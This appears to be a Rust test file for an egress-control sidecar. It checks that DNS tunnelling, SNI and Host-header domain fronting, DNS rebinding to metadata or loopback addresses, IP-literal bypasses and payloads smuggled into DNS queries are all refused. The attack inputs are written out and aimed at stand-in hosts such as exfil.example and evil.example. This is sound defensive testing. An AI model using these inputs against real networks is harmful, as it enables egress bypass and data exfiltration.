//! CONTAINMENT.md's battery routes that the sidecar itself must close (E10–E14, E16), each tried
//! against a running sidecar and judged at the application layer, each beside a positive control
//! that proves the listener it protects would have answered.

mod support;

use support::*;

/// E10: TXT/MX/NULL queries for outside names are refused by the responder and never reach the
/// platform's resolver. Positive control: a query for an internal name is forwarded and answered.
#[test]
fn e10_dns_cannot_tunnel_out() {
    in_private_network(|| async {
        let upstream_saw = platform_dns(addr(PLATFORM_DNS, 53)).await;
        let _sidecar = start_sidecar(POLICY, "").await;
        let dns = addr(SIDECAR, 53);

        let (rcode, addresses) = dns_query(dns, "web", 1)
            .await
            .expect("the internal name is answered");
        assert_eq!(
            (rcode, addresses),
            (0, vec![SERVICE.parse().unwrap()]),
            "positive control"
        );
        assert_eq!(headers_of(&upstream_saw), vec!["web".to_string()]);

        for (qtype, name) in [
            (16, "secret-data.exfil.example"),
            (15, "exfil.example"),
            (10, "c2.exfil.example"),
        ] {
            let (rcode, addresses) = dns_query(dns, name, qtype)
                .await
                .expect("refused, not silent");
            assert_eq!(rcode, 5, "qtype {qtype} for {name} must be REFUSED");
            assert!(addresses.is_empty());
        }
        // The same over TCP.
        let query = af_egress::dns_wire::build_query(7, "tcp.exfil.example", 16);
        let mut framed = (query.len() as u16).to_be_bytes().to_vec();
        framed.extend_from_slice(&query);
        let answer = exchange_bytes(dns, &framed).await;
        let (rcode, _) = af_egress::dns_wire::read_response_addresses(&answer[2..])
            .expect("a DNS answer over TCP");
        assert_eq!(rcode, 5, "TXT over TCP must be REFUSED too");
        assert_eq!(
            headers_of(&upstream_saw),
            vec!["web".to_string()],
            "nothing outside was forwarded"
        );
        let refused = decisions("?verdict=deny").await;
        let methods = counts(&refused, "method");
        assert_eq!(
            (methods["TXT"], methods["MX"], methods["NULL"]),
            (2, 1, 1),
            "{refused:?}"
        );
        assert!(
            refused
                .iter()
                .all(|r| r["protocol"] == "dns" && r["rule"] == "dns-query-type")
        );
    });
}

/// E11: a client that ignores proxy settings resolves an outside name, gets the sidecar, connects
/// straight to port 80, and is decided by its Host header and logged. Denied names are refused
/// the same way.
#[test]
fn e11_a_proxy_ignoring_client_lands_on_the_sidecar() {
    in_private_network(|| async {
        let origin_saw = http_origin(addr(ORIGIN, 80), "origin").await;
        let _sidecar = start_sidecar(POLICY, "").await;

        let (_, resolved) = dns_query(addr(SIDECAR, 53), "api.allowed.test", 1)
            .await
            .unwrap();
        assert_eq!(
            resolved,
            vec![SIDECAR.parse::<std::net::IpAddr>().unwrap()],
            "outside names resolve to the sidecar"
        );
        let answer = exchange(
            std::net::SocketAddr::new(resolved[0], 80),
            b"GET /v1/thing HTTP/1.1\r\nhost: api.allowed.test\r\nconnection: close\r\n\r\n",
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        assert!(answer.ends_with("origin saw /v1/thing"), "{answer}");
        assert_eq!(headers_of(&origin_saw).len(), 1);

        let (_, resolved) = dns_query(addr(SIDECAR, 53), "tracker.example", 1)
            .await
            .unwrap();
        let answer = exchange(
            std::net::SocketAddr::new(resolved[0], 80),
            b"GET / HTTP/1.1\r\nhost: tracker.example\r\nconnection: close\r\n\r\n",
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
        // The workload is told the code and what to do, not only refused.
        assert!(
            answer.contains("x-af-error: AF-RUN-052")
                && answer.contains("af egress AF-RUN-052: tracker.example is not allowed")
                && answer
                    .contains("Do: to reach it, add it to the environment's egress allow list"),
            "{answer}"
        );

        let logged = decisions("").await;
        let allowed = logged
            .iter()
            .find(|r| r["host"] == "api.allowed.test")
            .expect("the allowed request is logged");
        assert_eq!(allowed["protocol"], "http-transparent");
        assert_eq!(allowed["verdict"], "allow");
        assert_eq!(allowed["resolved"], format!("{ORIGIN}:80"));
        assert_eq!(allowed["rule"], "api.allowed.test via 203.0.113.0/24");
        let denied = logged
            .iter()
            .find(|r| r["host"] == "tracker.example")
            .expect("the denied request is logged");
        assert_eq!(
            (denied["verdict"].as_str(), denied["rule"].as_str()),
            (Some("deny"), Some("not-listed"))
        );
    });
}

/// E12: a CONNECT to an allowed host whose ClientHello names another server is refused before any
/// byte reaches the origin. Positive control: the matching name gets through and is answered.
#[test]
fn e12_domain_fronting_is_refused() {
    in_private_network(|| async {
        let origin_saw = tcp_origin(addr(ORIGIN, 443)).await;
        let _sidecar = start_sidecar(POLICY, "").await;

        let fronted = connect_then(&client_hello("evil.example")).await;
        assert!(
            fronted.starts_with("HTTP/1.1 200"),
            "the CONNECT itself is allowed: {fronted}"
        );
        assert!(
            !fronted.contains("ack:"),
            "the fronted hello must not reach the origin: {fronted}"
        );
        assert!(headers_of(&origin_saw).is_empty());

        let honest = connect_then(&client_hello("api.allowed.test")).await;
        assert!(honest.contains("ack:"), "positive control: {honest}");
        assert_eq!(headers_of(&origin_saw).len(), 1);

        let logged = decisions_once("?host=api.allowed.test", |r| {
            r["verdict"] == "allow" && r["bytes_down"].as_u64().unwrap() > 0
        })
        .await;
        let rules: Vec<&str> = logged.iter().map(|r| r["rule"].as_str().unwrap()).collect();
        assert!(rules.contains(&"sni-mismatch:evil.example"), "{rules:?}");
    });
}

/// CONNECT api.allowed.test:443, then send `then`; everything that comes back.
async fn connect_then(then: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(addr(SIDECAR, 3128))
        .await
        .unwrap();
    use tokio::io::AsyncWriteExt;
    stream
        .write_all(b"CONNECT api.allowed.test:443 HTTP/1.1\r\nhost: api.allowed.test:443\r\n\r\n")
        .await
        .unwrap();
    let head = read_response(&mut stream).await;
    stream.write_all(then).await.unwrap();
    format!("{head}{}", read_all(&mut stream).await)
}

/// E13: an allowed name that resolves to a private, loopback, link-local (metadata) or ULA address
/// is refused (DNS rebinding). Positive controls: each of those listeners answers a direct request,
/// and an allowed name resolving to a permitted address is forwarded.
#[test]
fn e13_rebinding_to_special_addresses_is_refused() {
    in_private_network(|| async {
        http_origin(addr(ORIGIN, 80), "origin").await;
        http_origin(addr(PRIVATE, 80), "private").await;
        http_origin(addr("127.0.0.1", 80), "loopback").await;
        http_origin(addr(METADATA, 80), "metadata").await;
        http_origin("[fd00:ec2::254]:80".parse().unwrap(), "v6metadata").await;
        let _sidecar = start_sidecar(POLICY, "").await;

        for (host, listener) in [
            (PRIVATE, "private"),
            ("127.0.0.1", "loopback"),
            (METADATA, "metadata"),
            ("[fd00:ec2::254]", "v6metadata"),
        ] {
            let target: std::net::SocketAddr = format!("{host}:80").parse().unwrap();
            let direct = exchange(
                target,
                b"GET / HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
            )
            .await;
            assert!(
                direct.ends_with(&format!("{listener} saw /")),
                "positive control for {listener}: {direct}"
            );
        }
        let through = proxied_get("api.allowed.test").await;
        assert!(
            through.ends_with("origin saw /"),
            "positive control: {through}"
        );

        for (name, class) in [
            ("rebind-private.allowed.test", "private"),
            ("rebind-loopback.allowed.test", "loopback"),
            ("rebind-metadata.allowed.test", "link-local"),
            ("rebind-v6metadata.allowed.test", "unique local (ULA)"),
        ] {
            let answer = proxied_get(name).await;
            assert!(answer.starts_with("HTTP/1.1 403"), "{name}: {answer}");
            assert!(
                !answer.contains(" saw "),
                "{name} reached a listener: {answer}"
            );
            let logged = decisions(&format!("?host={name}")).await;
            assert!(
                logged[0]["rule"]
                    .as_str()
                    .unwrap()
                    .starts_with(&format!("resolved-to-{class}")),
                "{logged:?}"
            );
        }
    });
}

async fn proxied_get(host: &str) -> String {
    exchange(
        addr(SIDECAR, 3128),
        format!("GET http://{host}/ HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n")
            .as_bytes(),
    )
    .await
}

/// E14: CONNECT or absolute-form requests to IP literals no rule names, and to special-purpose
/// ranges (metadata, NAT64, 6to4, Teredo), are refused. Positive controls: the listeners answer
/// directly, and an IP literal inside the allowed CIDR is forwarded.
#[test]
fn e14_ip_literals_and_special_ranges_are_refused() {
    in_private_network(|| async {
        http_origin(addr(ORIGIN, 80), "origin").await;
        http_origin(addr(UNLISTED, 80), "unlisted").await;
        http_origin(addr(METADATA, 80), "metadata").await;
        let _sidecar = start_sidecar(POLICY, "").await;

        let direct = exchange(
            addr(UNLISTED, 80),
            b"GET / HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        )
        .await;
        assert!(
            direct.ends_with("unlisted saw /"),
            "positive control: {direct}"
        );
        let allowed = proxied_get(ORIGIN).await;
        assert!(
            allowed.ends_with("origin saw /"),
            "positive control, a literal the CIDR names: {allowed}"
        );

        for host in [
            UNLISTED,
            METADATA,
            "[fd00:ec2::254]",
            "[64:ff9b::cb00:710a]",
            "[2002:cb00:710a::1]",
            "[2001::cb00:710a]",
        ] {
            let answer = proxied_get(host).await;
            assert!(answer.starts_with("HTTP/1.1 403"), "GET {host}: {answer}");
            let connect = exchange(
                addr(SIDECAR, 3128),
                format!(
                    "CONNECT {host}:443 HTTP/1.1\r\nhost: {host}:443\r\nconnection: close\r\n\r\n"
                )
                .as_bytes(),
            )
            .await;
            assert!(
                connect.starts_with("HTTP/1.1 403"),
                "CONNECT {host}: {connect}"
            );
        }
        let denied = decisions("?verdict=deny").await;
        assert_eq!(denied.len(), 12, "{denied:?}");
        assert!(denied.iter().all(|r| r["rule"] == "ip-literal"));
    });
}

/// E16: the control API is not reachable from a workload: connections on the sidecar's
/// workload-facing address are closed unread (even with the API bound to every address), and the
/// proxy refuses to carry requests to it. Positive control: the host side reaches it.
#[test]
fn e16_workloads_cannot_reach_the_control_api() {
    in_private_network(|| async {
        let _sidecar = start_sidecar(POLICY, "").await;
        // A second sidecar whose control API listens on every address, to prove the refusal does
        // not depend on the bind.
        let everywhere = start_sidecar_control_everywhere().await;

        let (status, body) = control_get("/healthz", None).await;
        assert!(
            status.contains("200") && body == "ok\n",
            "positive control: {status} {body}"
        );
        let (status, _) = control_get("/v1/inbox", Some(TOKEN)).await;
        assert!(
            status.contains("200"),
            "positive control with the token: {status}"
        );
        let (status, _) = control_get("/v1/inbox", None).await;
        assert!(status.contains("401"), "without the token: {status}");
        let (status, _) = control_get("/v1/inbox", Some("wrong-token-0123456789")).await;
        assert!(status.contains("401"), "with a wrong token: {status}");

        let from_workload_side = exchange(
            addr(SIDECAR, everywhere),
            b"GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        )
        .await;
        assert_eq!(
            from_workload_side, "",
            "the workload-facing address must answer nothing"
        );
        let positive = exchange(
            addr("127.0.0.1", everywhere),
            b"GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        )
        .await;
        assert!(
            positive.ends_with("ok\n"),
            "positive control on the same listener: {positive}"
        );

        for host in ["127.0.0.1:9901", &format!("{SIDECAR}:{everywhere}")] {
            let through = exchange(addr(SIDECAR, 3128), format!("GET http://{host}/healthz HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n").as_bytes()).await;
            assert!(through.starts_with("HTTP/1.1 403"), "{host}: {through}");
        }
    });
}

/// A sidecar with only a control API, bound to 0.0.0.0 on a free port; returns the port.
async fn start_sidecar_control_everywhere() -> u16 {
    let dir = std::env::temp_dir().join(format!("af-egress-e16-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let config = format!(
        "environment: e16\nlisten: {{smtp: [127.0.0.1:2525]}}\ncontrol: {{listen: 0.0.0.0:0, token: {TOKEN}, workload_addresses: [{SIDECAR}]}}\nlog: {{path: {}}}\n",
        dir.join("log.jsonl").display()
    );
    let running = af_egress::start(af_egress::parse_config(&config, &dir).unwrap())
        .await
        .unwrap();
    let port = running.addresses.control.unwrap().port();
    // Keep it serving for the rest of the test.
    std::mem::forget(running);
    port
}

/// E21: Host-header fronting. The sidecar decides a request by one host and must send exactly that
/// host: a shared ingress or CDN behind an allowed address routes by `Host`, so a request whose
/// `Host` names another site (or two sites, or hides one in userinfo) would reach that other site
/// while the log records the allowed one. Judged at the origin standing in for the shared ingress:
/// every request that reached it carries one Host, the allowed host's. Positive controls: honest
/// requests on both listeners, with and without a Host of their own, reach it.
#[test]
fn e21_host_header_fronting_is_refused() {
    in_private_network(|| async {
        let ingress_saw = http_origin(addr(ORIGIN, 80), "ingress").await;
        let _sidecar = start_sidecar(POLICY, "").await;
        let proxy = addr(SIDECAR, 3128);
        let transparent = addr(SIDECAR, 80);

        for (listener, request) in [
            (
                proxy,
                "GET http://api.allowed.test/honest HTTP/1.1\r\nhost: api.allowed.test\r\n",
            ),
            (proxy, "GET http://API.allowed.test:80/no-host HTTP/1.0\r\n"),
            (
                transparent,
                "GET /honest-transparent HTTP/1.1\r\nhost: api.allowed.test\r\n",
            ),
        ] {
            let answer = exchange(
                listener,
                format!("{request}connection: close\r\n\r\n").as_bytes(),
            )
            .await;
            assert_eq!(
                status(&answer),
                "200",
                "positive control {request:?}: {answer}"
            );
        }
        assert_eq!(
            headers_of(&ingress_saw).len(),
            3,
            "positive controls reached the ingress"
        );

        let attacks = [
            (
                proxy,
                "GET http://api.allowed.test/fronted HTTP/1.1\r\nhost: secret.example\r\n",
            ),
            (
                proxy,
                "GET http://api.allowed.test/two HTTP/1.1\r\nhost: api.allowed.test\r\nhost: secret.example\r\n",
            ),
            (
                proxy,
                "GET http://secret.example@api.allowed.test/userinfo HTTP/1.0\r\n",
            ),
            (
                proxy,
                "GET http://secret.example@api.allowed.test/userinfo-host HTTP/1.1\r\nhost: api.allowed.test\r\n",
            ),
            (
                proxy,
                "GET http://api.allowed.test/ws HTTP/1.1\r\nhost: secret.example\r\nupgrade: websocket\r\nconnection: upgrade\r\n",
            ),
            (
                transparent,
                "GET /two-transparent HTTP/1.1\r\nhost: api.allowed.test\r\nhost: secret.example\r\n",
            ),
            (
                transparent,
                "GET /userinfo-transparent HTTP/1.1\r\nhost: secret.example@api.allowed.test\r\n",
            ),
            (
                transparent,
                "GET http://secret.example/absolute HTTP/1.1\r\nhost: api.allowed.test\r\n",
            ),
            (
                proxy,
                "GET http://api.payments.test/charge HTTP/1.1\r\nhost: secret.example\r\n",
            ),
        ];
        for (listener, request) in attacks {
            let answer = exchange(
                listener,
                format!("{request}connection: close\r\n\r\n").as_bytes(),
            )
            .await;
            assert!(
                status(&answer) == "400" && answer.contains("x-af-error: AF-RUN-057"),
                "{request:?}: {answer}"
            );
        }
        let reached = headers_of(&ingress_saw);
        for head in &reached {
            let hosts: Vec<&str> = head
                .lines()
                .filter(|l| l.to_ascii_lowercase().starts_with("host:"))
                .collect();
            assert_eq!(
                hosts,
                ["host: api.allowed.test"],
                "what the ingress got: {head}"
            );
        }
        assert_eq!(
            reached.len(),
            3,
            "no attack reached the ingress: {reached:?}"
        );
        assert!(inbox().await.is_empty(), "no fronted request was captured");

        let denied = decisions("?verdict=deny").await;
        assert_eq!(denied.len(), attacks.len(), "{denied:?}");
        assert!(
            denied
                .iter()
                .all(|r| r["rule"].as_str().unwrap().starts_with("ambiguous-host:")),
            "{denied:?}"
        );
    });
}

/// The status code of a whole HTTP/1.x answer.
fn status(answer: &str) -> &str {
    answer.split(' ').nth(1).unwrap_or("")
}

/// A query for `labels` (each written as one label, dots and all) of type `qtype`, id 0x5151.
fn query_of_labels(labels: &[&[u8]], qtype: u16) -> Vec<u8> {
    let mut query = vec![0x51, 0x51, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        query.push(label.len() as u8);
        query.extend_from_slice(label);
    }
    query.push(0);
    query.extend_from_slice(&qtype.to_be_bytes());
    query.extend_from_slice(&[0, 1]);
    query
}

/// Sends `query` to the sidecar's responder over UDP; its answer's rcode, if one comes in 1 s.
async fn ask_responder(query: &[u8]) -> Option<u8> {
    let socket = tokio::net::UdpSocket::bind("0.0.0.0:0").await.unwrap();
    socket.send_to(query, addr(SIDECAR, 53)).await.unwrap();
    let mut buf = [0u8; 4096];
    let (n, _) = tokio::time::timeout(
        std::time::Duration::from_secs(1),
        socket.recv_from(&mut buf),
    )
    .await
    .ok()?
    .ok()?;
    (n >= 4).then(|| buf[3] & 0x0f)
}

/// E22: DNS names are compared label by label. One label that itself holds dots (`x.svc.cluster.
/// local` as a single label of 19 bytes) read as text looks like a name under the internal
/// suffix, and would be forwarded to the platform's resolver, which sends it on towards the
/// internet: a DNS tunnel, for any query type. Judged at the platform's resolver: nothing but the
/// positive control reaches it, and each refusal is in the decision log.
#[test]
fn e22_a_label_with_dots_is_not_an_internal_name() {
    in_private_network(|| async {
        let resolver_saw = platform_dns_bytes(addr(PLATFORM_DNS, 53)).await;
        let _sidecar = start_sidecar(POLICY, "").await;

        let honest = query_of_labels(&[b"x", b"svc", b"cluster", b"local"], 16);
        assert_eq!(
            ask_responder(&honest).await,
            Some(0),
            "positive control: forwarded, answered"
        );
        assert_eq!(
            resolver_saw.lock().unwrap().len(),
            1,
            "positive control reached the resolver"
        );

        for (labels, qtype) in [
            (&[&b"exfil-c2VjcmV0.svc.cluster.local"[..]][..], 16u16),
            (&[&b"x.svc.cluster"[..], b"local"][..], 1),
            (&[&b"tunnel data"[..], b"svc", b"cluster", b"local"][..], 1),
            (&[&b"\xff\x00bin"[..], b"svc", b"cluster", b"local"][..], 1),
            (&[&b"web.evil.example"[..]][..], 1),
        ] {
            let query = query_of_labels(labels, qtype);
            let rcode = ask_responder(&query).await;
            assert_eq!(rcode, Some(5), "{labels:?} must be REFUSED");
        }
        assert_eq!(
            resolver_saw.lock().unwrap().len(),
            1,
            "nothing but the positive control reached the platform's resolver"
        );
        let refused = decisions("?verdict=deny").await;
        assert_eq!(refused.len(), 5, "{refused:?}");
        assert!(
            refused.iter().all(|r| r["rule"] == "dns-name-not-ldh"),
            "{refused:?}"
        );

        // Past the wire's limits — five labels of 63 bytes (a name over 255) — it is FORMERR,
        // never forwarded, and recorded too.
        let long = [&[b'a'; 63][..]; 5];
        let mut too_long = long.to_vec();
        too_long.extend([&b"svc"[..], b"cluster", b"local"]);
        assert_eq!(ask_responder(&query_of_labels(&too_long, 1)).await, Some(1));
        assert_eq!(resolver_saw.lock().unwrap().len(), 1, "not forwarded");
        let malformed = decisions("?verdict=deny").await;
        assert!(
            malformed
                .iter()
                .any(|r| r["rule"] == "dns-malformed:name longer than 255 bytes"),
            "{malformed:?}"
        );
    });
}

/// E23: a forwarded query is rebuilt from its question alone. Whatever a workload appends to a
/// query for an internal name — records in the additional or authority section, EDNS options, bytes
/// past the end — must not reach the platform's resolver (it is a channel to the resolver and
/// whatever it forwards to). Judged at the resolver: the bytes it received hold none of it.
#[test]
fn e23_forwarded_queries_carry_nothing_the_workload_appended() {
    in_private_network(|| async {
        let resolver_saw = platform_dns_bytes(addr(PLATFORM_DNS, 53)).await;
        let _sidecar = start_sidecar(POLICY, "").await;

        const SECRET: &[u8] = b"SECRET-PAYLOAD";
        let mut carrying = query_of_labels(&[b"web"], 1);
        carrying[11] = 2; // two additional records
        // A TXT record holding the payload, compressed to the question's name.
        carrying.extend_from_slice(&[0xc0, 0x0c, 0, 16, 0, 1, 0, 0, 0, 0, 0, 15, 14]);
        carrying.extend_from_slice(SECRET);
        // An OPT record with an option holding the payload too.
        carrying.extend_from_slice(&[0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 18, 0xfd, 0xe9, 0, 14]);
        carrying.extend_from_slice(SECRET);
        carrying.extend_from_slice(b"trailing SECRET-PAYLOAD bytes");
        let mut in_authority = query_of_labels(&[b"web"], 28);
        in_authority[9] = 1;
        in_authority.extend_from_slice(&[0xc0, 0x0c, 0, 16, 0, 1, 0, 0, 0, 0, 0, 15, 14]);
        in_authority.extend_from_slice(SECRET);

        for query in [&carrying, &in_authority] {
            ask_responder(query).await;
        }
        let received = resolver_saw.lock().unwrap().clone();
        assert!(
            !received.is_empty(),
            "positive control: the internal name was forwarded"
        );
        for datagram in &received {
            assert!(
                !datagram.windows(SECRET.len()).any(|w| w == SECRET),
                "the resolver received the workload's payload: {datagram:?}"
            );
            assert_eq!(
                datagram[4..10],
                [0, 1, 0, 0, 0, 0],
                "one question, no answer or authority records: {datagram:?}"
            );
        }
    });
}
